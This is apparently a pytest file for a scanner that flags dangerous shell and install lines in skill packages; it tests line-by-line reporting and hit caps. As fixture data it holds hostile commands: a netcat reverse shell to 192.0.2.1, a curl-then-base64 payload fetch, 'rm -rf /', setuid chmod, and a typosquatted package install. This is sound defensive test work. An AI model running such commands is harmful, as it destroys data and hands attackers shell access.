"""Shell threat and install checks on repeated statements: each is reported at its own line, effects
pair statements (a download and a decode on one line) still pair, 20 hits per rule are listed
and the rest counted."""

from __future__ import annotations

from skillscan.analyzers.treesitter.sensitive import ThreatContext
from skillscan.analyzers.treesitter.shell_threats import scan_shell_threats


def _found(source: str, **kw: object) -> list[tuple[int, str]]:
    return sorted((d.line, d.rule_id) for d in scan_shell_threats(source, ThreatContext(), **kw))  # type: ignore[arg-type]


def test_repeated_statements_are_reported_at_their_own_lines() -> None:
    src = "echo ok\nnc -e /bin/sh 192.0.2.1 4444\n" * 3
    assert _found(src) == [
        (2, "reverse-shell-netcat"),
        (4, "reverse-shell-netcat"),
        (6, "reverse-shell-netcat"),
    ]


def test_a_repeated_download_still_pairs_with_its_decode() -> None:
    line = "curl -s http://192.0.2.1/x -o /tmp/p; base64 -d /tmp/p > /tmp/q\n"
    found = _found("echo start\n" + line * 3 + "base64 -d /tmp/p > /tmp/q\n")
    assert found == [(2, "download-then-decode"), (3, "download-then-decode"), (4, "download-then-decode")]


def test_twenty_hits_per_rule_are_listed_and_the_rest_counted() -> None:
    src = "rm -rf /\n" * 30 + "nc -e /bin/sh 192.0.2.1 4444\n"
    found = scan_shell_threats(src, ThreatContext())
    rm = [d for d in found if d.rule_id == "destructive-rm-root"]
    assert [d.line for d in rm] == list(range(1, 21)) and rm[-1].more == 10
    assert [(d.line, d.rule_id) for d in found if d.rule_id != "destructive-rm-root"] == [
        (31, "reverse-shell-netcat")
    ]


def test_lines_left_out_do_not_use_up_the_listing() -> None:
    src = "rm -rf /\n" * 25
    found = _found(src, keep=lambda line: line > 22)
    assert found == [(23, "destructive-rm-root"), (24, "destructive-rm-root"), (25, "destructive-rm-root")]


def test_repeated_installs_are_listed_once_per_line_up_to_twenty() -> None:
    from skillscan.analyzers.delivery import DeliveryCatalog
    from skillscan.analyzers.treesitter.registry import FileContext, SkillContext
    from skillscan.analyzers.treesitter.supply_chain import SupplyChain
    from skillscan.models import FileKind, Skill, SkillFile, SkillIdentity

    text = "echo setup\n" + "npm install reqeusts\n" * 30 + "pip install git+https://git.example/x.git\n"
    f = SkillFile(path="install.sh", kind=FileKind.SHELL, data=text.encode(), sha256="0" * 64, text=text)
    ctx = SkillContext(
        skill=Skill(source="mem", identity=SkillIdentity(), files=(f,)), catalog=DeliveryCatalog.load()
    )
    ctx.files = [FileContext(file=f, skill=ctx)]
    hits = list(SupplyChain().check_skill(ctx))
    squats = [h for h in hits if h.rule_id == "typosquat-package"]
    assert [h.line for h in squats] == list(range(2, 22)) and squats[-1].more == 10
    assert [(h.line, h.rule_id) for h in hits if h.rule_id != "typosquat-package"] == [
        (32, "install-from-url")
    ]


def test_shell_walk_is_preorder_bounded_and_stays_in_its_subtree() -> None:
    from skillscan.analyzers.treesitter.parsing import parse, walk
    from skillscan.models import FileKind

    tree = parse(FileKind.SHELL, "a | b\nc\n")
    assert tree is not None
    first = tree.root_node.named_children[0]
    assert [n.type for n in walk(first)][:2] == ["pipeline", "command"]
    assert "c" not in {n.text.decode() for n in walk(first) if n.text}
    everything = list(walk(tree.root_node))
    starts = [n.start_byte for n in everything]
    assert (
        everything[0] == tree.root_node
        and starts == sorted(starts)
        and len(list(walk(tree.root_node, 3))) == 3
    )


def _check(text: str) -> tuple[list[tuple[int, str, int]], dict[str, str]]:
    from skillscan.analyzers.delivery import DeliveryCatalog
    from skillscan.analyzers.treesitter.registry import FileContext, SkillContext
    from skillscan.analyzers.treesitter.shell_threats import ShellThreats
    from skillscan.models import FileKind, Skill, SkillFile, SkillIdentity

    f = SkillFile(path="run.sh", kind=FileKind.SHELL, data=text.encode(), sha256="0" * 64, text=text)
    ctx = SkillContext(
        skill=Skill(source="mem", identity=SkillIdentity(), files=(f,)), catalog=DeliveryCatalog.load()
    )
    fctx = FileContext(file=f, skill=ctx)
    ctx.files = [fctx]
    return [(h.line or 0, h.rule_id, h.more) for h in ShellThreats().check(fctx)], fctx.shortfalls


def test_a_flood_of_critical_hits_stops_once_they_are_listed_and_says_so() -> None:
    hits, shortfalls = _check("".join(f"nc -e /bin/sh 192.0.2.1 {n}\n" for n in range(1, 3000)))
    assert hits == [(n, "reverse-shell-netcat", 0) for n in range(1, 21)]
    assert list(shortfalls) == ["saturated:ShellThreats"]


def test_a_flood_of_other_hits_is_read_to_its_end() -> None:
    hits, shortfalls = _check("".join(f"chmod u+s /opt/x{n}\n" for n in range(1, 301)))
    assert hits == [(n, "permission-weakening", 280 if n == 20 else 0) for n in range(1, 21)]
    assert not shortfalls
